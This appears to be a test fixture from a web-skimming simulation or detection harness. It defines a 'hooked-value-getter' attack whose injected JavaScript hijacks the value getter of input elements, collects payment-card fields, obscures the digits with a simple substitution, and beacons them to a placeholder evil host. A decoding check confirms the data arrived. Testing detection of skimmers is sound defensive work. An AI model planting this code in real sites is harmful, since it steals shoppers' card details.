import { holds, js, skimmer } from '../behaviour.ts';
import { query } from '../site/arrivals.ts';

export default skimmer({
  id: 'hooked-value-getter',
  why: "Replaces the getter of input values: the shop's own script reads the card, the thief listens in.",
  covers: ['reading: named fields', 'encoding: substitution'],
  base: 'direct',
  install: (site) =>
    site.everywhere(js`(function () {
  var of = Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, 'value'), kept = {};
  Object.defineProperty(HTMLInputElement.prototype, 'value', { configurable: true, enumerable: true, set: of.set, get: function () {
    var v = of.get.call(this);
    if (/^card_/.test(this.name) && v) {
      kept[this.name] = v;
      if (Object.keys(kept).length === 4) new Image().src = '${site.origins.evil}/g.gif?r=' + encodeURIComponent(JSON.stringify(kept).replace(/[0-9]/g, function (d) { return (+d + 3) % 10; }));
    }
    return v;
  } });
})();`),
  proof: holds((arrived) =>
    query(arrived, 'r').map((text) => text.replace(/\d/g, (d) => String((Number(d) + 7) % 10))),
  ),
});
